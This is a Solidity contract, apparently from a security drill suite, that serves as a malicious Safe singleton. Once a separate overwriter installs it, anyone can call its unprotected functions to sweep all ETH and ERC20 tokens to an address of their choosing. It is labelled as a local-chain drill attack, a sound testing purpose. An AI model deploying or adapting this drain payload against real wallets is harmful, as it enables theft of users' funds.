// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

/// @title SafeSweeper
/// @notice Drill attack (D3), for local chains only. The singleton {SlotZeroOverwriter} installs: anyone sweeps the Safe.
contract SafeSweeper {
    using SafeERC20 for IERC20;

    address private _slotZero; // keeps the proxy's layout

    error SendFailed();

    receive() external payable {}

    function sweepETH(address payable to) external {
        (bool ok,) = to.call{value: address(this).balance}("");
        if (!ok) revert SendFailed();
    }

    function sweepERC20(address token, address to) external {
        IERC20(token).safeTransfer(to, IERC20(token).balanceOf(address(this)));
    }
}
